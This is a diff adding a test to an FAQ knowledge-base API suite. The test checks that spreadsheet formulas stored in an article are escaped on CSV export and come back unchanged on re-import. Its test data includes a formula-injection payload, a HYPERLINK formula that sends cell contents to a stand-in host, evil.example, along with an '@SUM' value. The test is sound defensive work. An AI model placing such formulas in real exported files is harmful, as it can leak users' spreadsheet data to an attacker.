@@ -176,6 +176,25 @@ async def test_a_supervisor_edits_an_faq_article_and_search_follows(own_api, tok
     assert (await own_api.get("/api/v1/knowledge/articles/no-such-article")).status_code == 404
 
 
+async def test_a_formula_saved_in_an_article_is_exported_inert_and_imports_back_unchanged(own_api):
+    code = "faq-water-outage-notice"
+    current = (await own_api.get(f"/api/v1/knowledge/articles/{code}")).json()
+    formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"点击查看\")"
+    saved = await own_api.put(f"/api/v1/knowledge/articles/{code}", json={
+        "code": code, "question": current["question"], "answer": formula, "department": current["department"],
+        "keywords": ["@SUM(1+1)", *current["keywords"]]})
+    assert saved.status_code == 200, saved.text
+    exported = await export(own_api, "articles", "csv")
+    header, *rows = sheet(exported)
+    row = next(r for r in rows if r[header.index("编码")] == code)
+    assert row[header.index("答案")] == "'" + formula  # Excel shows it as text; it never runs
+    assert row[header.index("关键词")].startswith("'@SUM(1+1)")
+    result = await import_file(own_api, "articles", "csv", exported)
+    assert result.status_code == 200 and result.json()["updated"] == [], result.text
+    after = (await own_api.get(f"/api/v1/knowledge/articles/{code}")).json()
+    assert after["answer"] == formula and after["version"] == saved.json()["version"]
+
+
 async def _history_editors(url, article_code):
     conn = await asyncpg.connect(url)
     try:
